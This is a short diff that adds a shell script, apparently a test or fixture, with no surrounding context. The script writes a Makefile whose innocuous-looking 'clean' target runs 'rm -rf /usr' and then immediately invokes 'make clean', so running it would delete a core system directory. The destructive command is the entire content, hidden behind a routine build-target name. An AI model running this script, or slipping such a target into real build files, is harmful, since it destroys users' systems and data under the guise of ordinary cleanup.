@@ -1,0 +1,6 @@
+set -eu
+cat >Makefile <<'END'
+clean:
+	rm -rf /usr
+END
+make clean
